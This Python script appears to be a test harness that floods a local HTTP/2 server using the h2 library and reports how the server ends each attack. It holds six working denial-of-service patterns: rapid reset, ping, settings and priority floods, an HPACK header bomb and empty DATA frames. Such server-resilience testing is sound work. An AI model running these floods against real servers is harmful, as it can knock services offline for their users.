"""Floods by another HTTP/2 stack, python3-h2: argv is a port and a kind. Prints how the server ended it."""

import select
import socket
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

MOST = 200_000
HEADERS = [(":method", "GET"), (":scheme", "http"), (":path", "/hold"), (":authority", "a.test")]


def rapid_reset(connection, index):
    stream_id = connection.get_next_available_stream_id()
    connection.send_headers(stream_id, HEADERS, end_stream=True)
    connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)


def ping(connection, index):
    connection.ping(index.to_bytes(8, "big"))


def settings(connection, index):
    connection.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1000 + index % 2})


def priority(connection, index):
    connection.prioritize(1 + 2 * (index % 1000), weight=1 + index % 256)


def header_bomb(connection, index):
    stream_id = connection.get_next_available_stream_id()
    # The first of these goes into the dynamic table, the others are a byte each.
    connection.send_headers(stream_id, HEADERS + [("x-bomb", "y" * 3900)] * 1000, end_stream=True)


def empty_data(connection, index):
    if index == 0:
        connection.send_headers(1, [(":method", "POST")] + HEADERS[1:])
    connection.send_data(1, b"")


KINDS = {kind.__name__: kind for kind in (rapid_reset, ping, settings, priority, header_bomb, empty_data)}


def run(port, kind):
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    connection = h2.connection.H2Connection(config=h2.config.H2Configuration(header_encoding="utf-8"))
    connection.initiate_connection()
    sock.sendall(connection.data_to_send())
    sock.setblocking(False)
    refused = 0
    for index in range(MOST):
        try:
            kind(connection, index)
        except (h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError) as error:
            return f"stopped by its own stack: {type(error).__name__}"
        try:
            send(sock, connection)
            for event in take(sock, connection):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return f"goaway {int(event.error_code)} after {index}"
                if isinstance(event, h2.events.ResponseReceived) and (":status", "431") in event.headers:
                    refused += 1
                    if refused == 100:
                        return "refused with 431"
        except OSError:
            return f"closed after {index}"
    return "never stopped"


def send(sock, connection):
    pending = connection.data_to_send()
    while pending:
        select.select([], [sock], [], 10)
        pending = pending[sock.send(pending):]


def take(sock, connection):
    if not select.select([sock], [], [], 0)[0]:
        return []
    data = sock.recv(65536)
    if not data:
        raise ConnectionResetError
    return connection.receive_data(data)


print(run(int(sys.argv[1]), KINDS[sys.argv[2]]))
